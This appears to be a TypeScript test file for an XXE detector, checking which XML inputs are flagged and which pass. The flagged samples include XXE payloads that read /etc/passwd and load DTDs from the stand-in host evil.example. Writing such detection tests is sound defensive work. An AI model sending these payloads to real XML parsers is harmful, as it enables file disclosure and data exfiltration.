import { test } from 'node:test';
import assert from 'node:assert/strict';
import { xxe } from './xxe.ts';
import { checkValues, inspected } from './testing.ts';

test('xxe: entity declarations, DTDs with an internal subset or SYSTEM id, and XInclude are flagged anywhere', () => {
  checkValues(xxe, {
    flagged: [
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">', '<!DOCTYPE root SYSTEM "http://evil.example/x.dtd"><root/>',
      '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></r>', '<?xml version="1.0"?><!DOCTYPE plist><plist/>',
    ],
    passed: [
      '<!DOCTYPE html><html><body>Hello</body></html>', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
      '<?xml version="1.0"?><order><id>1</id></order>', '<!-- a comment -->', 'a < b and c > d',
    ],
  });
});

test('xxe: in a body declared XML any DTD is flagged, even a public one', () => {
  const doc = inspected('<!DOCTYPE order PUBLIC "-//EVIL//DTD//EN" "http://evil.example/order.dtd"><order/>');
  assert.equal(xxe.value!(doc, { key: undefined, xmlBody: true, rawBody: true }), true);
  assert.equal(xxe.value!(doc, { key: undefined, xmlBody: false, rawBody: true }), false);
});
